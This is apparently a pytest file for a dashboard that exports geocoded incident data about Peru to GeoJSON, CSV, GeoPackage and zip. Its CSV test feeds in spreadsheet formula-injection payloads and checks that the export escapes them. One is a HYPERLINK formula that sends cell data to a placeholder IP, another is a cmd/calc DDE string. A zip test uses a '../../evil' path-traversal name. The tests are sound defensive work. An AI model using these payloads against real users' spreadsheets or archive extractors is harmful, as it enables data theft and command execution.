import csv
import io
import json
import zipfile

import geopandas as gpd
import pytest
import shapely

from dashboard import export, pipeline, query, store
from tests.conftest import SEEDS


@pytest.fixture(scope="module")
def frame(tmp_path_factory):
    path = tmp_path_factory.mktemp("exp") / "s.sqlite"
    pipeline.build([SEEDS], path=path)
    return store.load(path)


def test_feature_collection_is_rfc7946(frame):
    fc = export.to_feature_collection(frame)
    assert fc["type"] == "FeatureCollection" and "crs" not in fc
    assert list(fc["features"][0]["properties"])[:len(store.PROPERTIES)] == store.PROPERTIES
    callao = next(f for f in fc["features"] if f["properties"]["location_id"] == "town:callao")
    lon, lat = callao["geometry"]["coordinates"]
    assert (round(lon, 3), round(lat, 3)) == (-77.147, -12.063)  # lon first
    for f in fc["features"]:
        geom = f["geometry"]
        if geom["type"] == "Polygon":
            assert shapely.LinearRing(geom["coordinates"][0]).is_ccw  # exterior rings counter-clockwise


def test_geojson_round_trip(frame, tmp_path):
    path = export.write(frame, tmp_path / "out.geojson", "geojson")
    back = gpd.read_file(path)
    assert len(back) == len(frame) and back.crs.to_epsg() == 4326
    raw = json.loads(path.read_text())
    by_id = {f["id"]: f for f in raw["features"]}
    for rec in frame.to_dict("records"):
        props = by_id[rec["id"]]["properties"]
        assert props["departments"] == rec["departments"] and props["type"] == rec["type"]
        assert isinstance(props["background"], bool)


def test_csv_and_gpkg(frame, tmp_path):
    rows = list(csv.DictReader(io.StringIO(export.csv_bytes(frame).decode())))
    assert len(rows) == len(frame)
    vraem = [r for r in rows if r["location_id"] == "zone:vraem"]
    assert vraem and vraem[0]["departments"] == "Ayacucho; Cusco; Junín"
    path = export.write(frame, tmp_path / "out.gpkg", "gpkg")
    back = gpd.read_file(path, layer="incidents")
    assert sorted(back["id"]) == sorted(frame["id"])


def test_zip_has_one_layer_per_type(frame):
    zf = zipfile.ZipFile(io.BytesIO(export.geojson_zip_bytes(frame)))
    assert sorted(zf.namelist()) == sorted(f"{t}.geojson" for t in frame["type"].unique())
    amb = json.loads(zf.read("ambush.geojson"))
    assert {f["properties"]["type"] for f in amb["features"]} == {"ambush"}


def test_unlocated_incident_has_null_geometry(frame):
    part = frame.iloc[:1].copy()
    part = part.set_geometry([None], crs=4326)
    fc = export.to_feature_collection(part)
    assert fc["features"][0]["geometry"] is None


def test_bad_format(frame, tmp_path):
    with pytest.raises(ValueError, match="'kml'"):
        export.write(frame, tmp_path / "x.kml", "kml")


def test_filters(frame):
    f = query.apply
    assert set(f(frame, query.Filter(types=["ambush"]))["type"]) == {"ambush"}
    assert len(f(frame, query.Filter(types=["ambush"]))) == 4
    assert len(f(frame, query.Filter(include_background=True))) == len(frame)
    vraem = f(frame, query.Filter(regions=["vraem"]))
    assert len(vraem) == 5  # 001 ambush, two 002 labs, 002 Huanta ambush and arrest
    assert len(f(frame, query.Filter(regions=["Junin"]))) == 4  # the VRAEM three cover Junín, plus 003
    dated = f(frame, query.Filter(since=__import__("datetime").date(2017, 1, 1)))
    assert set(dated["date"].str[:4]) == {"2017"}
    assert len(f(frame, query.Filter(text="helicopters"))) == 1
    assert len(f(frame, query.Filter(actors=["Shining Path"]))) == 2


def test_csv_text_cells_cannot_be_formulas(frame):
    part = frame[frame["location_id"] == "town:callao"].copy()
    part["title"] = '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")'
    part["evidence"] = "+1+cmd|' /C calc'!A0"
    part["outlet"] = "@SUM(1+1)"
    part["place"] = "\t=1+1"
    part["substance"] = "\r=1"
    part["actors"] = [["-2+3", "Shining Path"]]
    part["reported_by"] = "Andina"
    part["quantity_kg"] = -2.5  # a genuine (if odd) negative number in a numeric column stays a number
    (row,) = list(csv.DictReader(io.StringIO(export.csv_bytes(part).decode(), newline="")))
    assert row["title"] == "'" + '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")'
    assert row["evidence"] == "'+1+cmd|' /C calc'!A0"
    assert row["outlet"] == "'@SUM(1+1)"
    assert row["place"] == "'\t=1+1" and row["substance"] == "'\r=1"
    assert row["actors"] == "'-2+3; Shining Path"
    assert row["reported_by"] == "Andina"  # ordinary text unchanged
    assert row["quantity_kg"] == "-2.5" and float(row["lon"]) == pytest.approx(-77.147, abs=1e-3)
    assert row["lon"].startswith("-") and row["lat"].startswith("-")  # Peru's coordinates stay numbers
    assert row["killed"] == "" and row["date"] == part["date"].iloc[0]


def test_zip_entry_names_are_plain_file_names(frame):
    part = frame.iloc[:2].copy()
    part["type"] = ["../../evil", "ambush"]
    names = zipfile.ZipFile(io.BytesIO(export.geojson_zip_bytes(part))).namelist()
    assert sorted(names) == ["______evil.geojson", "ambush.geojson"]
